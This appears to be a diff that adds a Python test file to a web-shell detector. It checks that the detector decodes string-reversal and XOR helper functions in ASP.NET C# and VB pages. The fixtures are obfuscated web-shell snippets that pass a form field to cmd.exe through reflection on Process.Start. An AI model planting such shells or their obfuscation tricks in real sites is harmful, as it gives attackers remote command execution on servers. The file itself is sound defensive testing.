@@ -1,0 +1,99 @@
+"""A page's own helper that decodes a string with a loop of one append, or reverses an array in
+place, is folded like any other helper: `Rev("ssecorP...")` with `Array.Reverse(a)`, `Xor(s, 5)`
+with `foreach (char c in s) sb.Append((char)(c ^ k))` or an index loop, in C# and VB. A shell that
+names `Process.Start` only through such a helper and reflection was a low reflection finding
+(docs/detection/webshell-code.md, "Helpers with a loop")."""
+
+from __future__ import annotations
+
+import pytest
+
+from code_support import assert_found, cs_page, run, vb_page
+
+TYPE = "System.Diagnostics.Process, System"
+XORED = "".join(chr(ord(c) ^ 5) for c in TYPE)
+REVERSED = TYPE[::-1]
+CS_CALL = (
+    'string c = Request.Form["c"];\n'
+    'Type.GetType({name}).GetMethod("Start", new[] {{ typeof(string), typeof(string) }})'
+    '.Invoke(null, new object[] {{ "cmd.exe", "/c " + c }});'
+)
+VB_CALL = (
+    'Dim c As String = Request.Form("c")\n'
+    'Type.GetType({name}).GetMethod("Start", New Type() {{GetType(String), GetType(String)}})'
+    '.Invoke(Nothing, New Object() {{"cmd.exe", "/c " & c}})'
+)
+
+CS_HELPERS = [
+    (
+        "reverse",
+        f'Rev("{REVERSED}")',
+        "static string Rev(string s) { char[] a = s.ToCharArray(); Array.Reverse(a); return new string(a); }",
+    ),
+    (
+        "foreach-builder",
+        f'X("{XORED}", 5)',
+        "static string X(string s, int k) { var sb = new System.Text.StringBuilder();\n"
+        "  foreach (char ch in s) sb.Append((char)(ch ^ k));\n  return sb.ToString(); }",
+    ),
+    (
+        "for-index",
+        f'X("{XORED}", 5)',
+        'static string X(string s, int k) { string r = ""; for (int i = 0; i < s.Length; i++) r += (char)(s[i] ^ k); return r; }',
+    ),
+    (
+        "foreach-block",
+        f'X("{XORED}", 5)',
+        "static string X(string s, int k) { string r = string.Empty; foreach (var c in s) { r += (char)(c ^ k); } return r; }",
+    ),
+]
+VB_HELPERS = [
+    (
+        "vb-reverse",
+        f'Rev("{REVERSED}")',
+        "Function Rev(s As String) As String\n  Dim a() As Char = s.ToCharArray()\n  Array.Reverse(a)\n  Return New String(a)\nEnd Function",
+    ),
+    (
+        "vb-for-each",
+        f'X("{XORED}", 5)',
+        'Function X(s As String, k As Integer) As String\n  Dim r As String = ""\n  For Each ch As Char In s\n'
+        "    r &= ChrW(AscW(ch) Xor k)\n  Next\n  Return r\nEnd Function",
+    ),
+    (
+        "vb-for",
+        f'X("{XORED}", 5)',
+        'Function X(s As String, k As Integer) As String\n  Dim r As String = ""\n  For i As Integer = 0 To s.Length - 1\n'
+        "    r &= ChrW(AscW(s(i)) Xor k)\n  Next\n  Return r\nEnd Function",
+    ),
+]
+
+
+@pytest.mark.parametrize(("form", "call", "helper"), CS_HELPERS, ids=[h[0] for h in CS_HELPERS])
+def test_csharp_helper_with_a_loop_is_folded(form: str, call: str, helper: str) -> None:
+    report = assert_found(
+        "h.aspx", cs_page(CS_CALL.format(name=call), members=helper), "EXH-WS-CODE-PROCESS", ["form field 'c'"]
+    )
+    assert TYPE in report.folded
+
+
+@pytest.mark.parametrize(("form", "call", "helper"), VB_HELPERS, ids=[h[0] for h in VB_HELPERS])
+def test_vb_helper_with_a_loop_is_folded(form: str, call: str, helper: str) -> None:
+    report = assert_found(
+        "h.aspx", vb_page(VB_CALL.format(name=call), members=helper), "EXH-WS-CODE-PROCESS", ["form field 'c'"]
+    )
+    assert TYPE in report.folded
+
+
+@pytest.mark.parametrize(
+    "helper",
+    [
+        # two statements in the loop, a step, and bounds that do not fold: not followed
+        'static string X(string s, int k) { string r = ""; foreach (char ch in s) { r += ch; r += "x"; } return r; }',
+        'static string X(string s, int k) { string r = ""; for (int i = 0; i < s.Length; i += 2) r += s[i]; return r; }',
+        'static string X(string s, int k) { string r = ""; for (int i = 0; i < Limit(); i++) r += s[i]; return r; }',
+    ],
+    ids=["two-statements", "step-of-two", "unknown-bound"],
+)
+def test_a_loop_of_another_shape_gives_no_constant(helper: str) -> None:
+    report = run("h.aspx", cs_page(CS_CALL.format(name=f'X("{XORED}", 5)'), members=helper))
+    assert TYPE not in report.folded
